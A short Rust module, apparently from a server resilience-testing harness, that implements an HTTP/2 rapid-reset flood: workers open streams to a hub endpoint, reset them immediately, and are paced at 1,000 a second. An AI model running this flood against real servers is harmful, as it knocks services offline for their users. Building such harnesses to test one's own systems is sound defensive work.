//! HTTP/2 streams that are reset as soon as they are open.

use std::io;

use tokio::task::JoinSet;

use super::{
    attacker::Plan,
    frames::Frames,
    worker::{Worker, pace},
};

/// 1,000 a second.
pub(super) fn start(plan: &Plan, tasks: &mut JoinSet<()>) {
    pace(tasks, &plan.tally, plan.connections, RATE, |_| Reset { plan: plan.clone(), open: None });
}

struct Reset {
    plan: Plan,
    open: Option<Frames>,
}

impl Worker for Reset {
    async fn step(&mut self) -> io::Result<()> {
        let mut frames = match self.open.take() {
            Some(frames) => frames,
            None => Frames::open(self.plan.address, 65_535).await?,
        };
        frames.get_and_reset("/hub?topics=honest").await?;
        frames.catch_up().await?;
        self.open = Some(frames);
        Ok(())
    }
}

const RATE: f64 = 1_000.0;
